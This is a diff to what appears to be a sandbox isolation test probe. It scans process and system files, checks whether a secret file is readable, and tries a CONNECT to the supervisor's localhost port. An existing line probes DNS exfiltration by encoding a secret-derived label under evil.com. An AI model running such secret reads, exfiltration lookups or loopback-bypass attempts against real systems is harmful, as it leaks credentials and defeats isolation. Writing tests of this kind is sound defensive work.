@@ -76,7 +76,8 @@ for pid in os.listdir("/proc"):
                 seen.append(open(f"/proc/{pid}/{f}", "rb").read().decode(errors="replace"))
             except OSError:
                 pass
-for root in ("/workspace", "/tmp", "/run", "/etc"):
+# (/tmp is the host's /tmp through an overlay: its top level only, which holds the test's files.)
+for root in ("/workspace", "/run", "/etc"):
     for d, _, files in os.walk(root):
         for f in files:
             p = os.path.join(d, f)
@@ -86,6 +87,17 @@ for root in ("/workspace", "/tmp", "/run", "/etc"):
                 seen.append(open(p, "rb").read(1 << 20).decode(errors="replace"))
             except OSError:
                 pass
+for d, dirs, files in os.walk(cfg["tmp"]):
+    for f in files:
+        try:
+            seen.append(open(os.path.join(d, f), "rb").read(1 << 20).decode(errors="replace"))
+        except OSError:
+            pass
+try:
+    content = open(cfg["secret_file"]).read()
+    out("secret_file", readable=True, length=len(content))
+except OSError as e:
+    out("secret_file", readable=False, error=repr(e))
 with open("/workspace/seen.txt", "w") as f:
     f.write("\n".join(seen))
 
@@ -135,6 +147,9 @@ except OSError as e:
 label = base64.b32encode(b"secret-" + placeholder.encode()).decode().rstrip("=").lower()
 out("dns_exfil", name=f"{label}.evil.com", rcode=dns_rcode(f"{label}.evil.com"))
 out("dns_allowed_raw", rcode=dns_rcode("api.example.test"))
+
+# A listed name that DNS points at the supervisor's own loopback is not reached.
+out("connect_local", status=raw_exchange(f"CONNECT localhost:{cfg['upstream_port']} HTTP/1.1\r\nHost: x\r\n\r\n".encode()))
 
 # Abuse: the broker answers each with an error and keeps serving.
 out("malformed", status=raw_exchange(b"GARBAGE \x00\x01\r\n\r\n"))
